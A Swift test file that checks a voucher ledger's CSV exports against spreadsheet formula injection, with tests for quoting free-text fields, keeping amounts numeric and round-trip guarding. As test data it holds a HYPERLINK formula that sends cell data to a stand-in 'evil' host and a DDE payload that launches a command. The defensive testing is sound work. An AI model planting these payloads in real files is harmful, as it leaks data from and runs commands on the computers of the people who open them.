import Foundation
import GoodwillCore
import Ledger
import Testing
@testable import Support

/// OWASP "CSV Injection": a cell that starts with = + - @, a tab or a carriage return is a live
/// formula when a spreadsheet opens the file. Text from outside (names, emails, experiences,
/// references, reasons, actors) is written with a leading ' in front of such a start; amounts,
/// dates, ids, codes and kinds are written as they are, whatever they hold.
@Suite struct FormulaGuardTests {
    static let hyperlink = #"=HYPERLINK("http://evil/?"&A1,"click")"#
    static let dde = "@SUM(1+1)*cmd|' /C calc'!A0"

    static func records(_ csv: String) throws -> [[String]] {
        try Data(csv.utf8).withUnsafeBytes { raw in
            var reader = CSVReader(bytes: raw)
            var out: [[String]] = []
            while let r = try reader.next() { out.append(r.fields) }
            return out
        }
    }

    /// Rows of a CSV as dictionaries by header name.
    static func table(_ csv: String) throws -> [[String: String]] {
        let all = try records(csv)
        guard let header = all.first else { return [] }
        return all.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(header, $0).map { ($0, $1) }) }
    }

    @Test func exportedFreeText_thatStartsAFormula_isWrittenAsText_andAmountsStayNumbers() throws {
        let f = try SupportFixture(book: false, now: "2025-11-23T10:00:00Z")
        let v = try f.ledger.perform(.issue(IssueRequest(
            value: Money(minorUnits: 100_000, currency: .sek), validity: .months(12), timeZone: "Europe/Stockholm",
            holder: PersonInput(email: "anna@example.se", name: Self.hyperlink), kind: .experience, experience: Self.hyperlink)),
            actor: "-2+3").voucher
        let ref = VoucherReference.id(VoucherID(rawValue: v.id))
        try f.ledger.perform(.redeem(ref, amount: Money(minorUnits: 50_000, currency: .sek), reference: Self.dde), actor: "+till")
        try f.ledger.perform(.block(ref, reason: "-1+1 chargeback"), actor: "@support")
        // A tab or a carriage return cannot come in through the ledger (it trims text and refuses
        // control characters), but the writer decides by the column, not by how the value came in.
        for (n, start) in [(2, "char(9)"), (3, "char(13)")] {
            let other = try f.issue(100, holder: "h\(n)@example.se")
            _ = try f.ledger.db.run("UPDATE vouchers SET experience = \(start) || '=1+1' WHERE id = ?", [.text(other.id)])
        }

        var csv = ""
        try f.support.export(.entries, format: .csv) { csv += $0 }
        let entries = try Self.table(csv)
        let issued = try #require(entries.first { $0["kind"] == "issued" && $0["voucher_id"] == v.id })
        #expect(issued["actor"] == "'-2+3")
        #expect(issued["amount"] == "100000")
        let redeemed = try #require(entries.first { $0["kind"] == "redeemed" })
        #expect(redeemed["reference"] == "'" + Self.dde)
        #expect(redeemed["actor"] == "'+till")
        #expect(redeemed["amount"] == "-50000")   // a negative amount is a number, not a formula to defuse
        let blocked = try #require(entries.first { $0["kind"] == "blocked" })
        #expect(blocked["reason"] == "'-1+1 chargeback" && blocked["actor"] == "'@support")
        #expect(blocked["code"] == v.code && blocked["voucher_id"] == v.id && blocked["currency"] == "SEK")

        csv = ""
        try f.support.export(.vouchers, format: .csv) { csv += $0 }
        // The quote goes inside the CSV quoting the field needs for its own quotes and commas.
        #expect(csv.contains(#","'=HYPERLINK(""http://evil/?""&A1,""click"")","#), "\(csv)")
        let vouchers = try Self.table(csv)
        #expect(vouchers.map { $0["experience"] } == ["'" + Self.hyperlink, "'\t=1+1", "'\r=1+1"])
        #expect(vouchers.first?["balance"] == "50000" && vouchers.first?["value"] == "100000")

        // JSON lines are not for spreadsheets: written as stored.
        var lines: [String] = []
        try f.support.export(.vouchers, format: .jsonl) { lines.append($0) }
        let first = try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any]
        #expect(first?["experience"] as? String == Self.hyperlink)
        lines = []
        try f.support.export(.entries, format: .jsonl) { lines.append($0) }
        #expect(lines.contains { $0.contains("\"reference\":\"@SUM(1+1)*cmd|' /C calc'!A0\"") })
    }

    /// A finance report's free-text column (a rule's or an agent's name) is guarded; its amounts,
    /// negative ones included, stay numbers.
    @Test func reportCSV_guardsNames_notAmounts() throws {
        let minus = Money(minorUnits: -500, currency: .sek), zero = Money(minorUnits: 0, currency: .sek)
        let line = GoodwillLine(group: "agent", name: "-ops", currency: "SEK", extensions: 1, days: 30, overrides: 0,
                                valueKeptAlive: minus, laterRedeemed: zero)
        let goodwill = GoodwillReport(asOf: "2025-11-23T10:00:00Z", byRule: [], byAgent: [line], totals: [], overrides: 0, referred: 0, denied: 0)
        #expect(try Self.records(goodwill.table.csv) == [goodwill.table.header, ["agent", "'-ops", "SEK", "1", "30", "0", "-5.00", "0.00"]])
        let rec = ReconciliationReport(asOf: "2025-11-23T10:00:00Z", currencies: [ReconciliationLine(
            currency: "SEK", issued: zero, redeemed: zero, refunded: zero, voided: zero, adjusted: minus, liability: zero, breakage: zero,
            difference: minus)], balanced: false)
        #expect(rec.table.csv.hasSuffix("\r\nSEK,0.00,-5.00,0.00,0.00,0.00,0.00,0.00,-5.00\r\n"))
    }

    /// `unguarded` undoes exactly what `guarded` did, for any text: text that already starts with a
    /// quote before a formula character gets one more, so the two cannot be confused.
    @Test func guarded_isUndoneExactly_byUnguarded() {
        for s in ["", "'", "''", "=1+1", "+46 70 123", "-500", "@home", "\t=x", "\r=x", "'=x", "''-x", "'t Hooft", "Åsa", "a=b", " =x", "'''@"] {
            let g = CSV.guarded(s)
            #expect(CSV.unguarded(g) == s, "\(s)")
            #expect(!CSV.formulaStarts.contains(g.utf8.first ?? 0), "\(s)")
        }
        #expect(CSV.guarded("=1+1") == "'=1+1" && CSV.guarded("'=x") == "''=x" && CSV.guarded("\r") == "'\r")
        #expect(CSV.guarded("'t Hooft") == "'t Hooft" && CSV.guarded("Åsa") == "Åsa" && CSV.guarded(" =x") == " =x")
        #expect(CSV.unguarded("'t Hooft") == "'t Hooft" && CSV.unguarded("'-x") == "-x" && CSV.unguarded("=x") == "=x")
    }
}
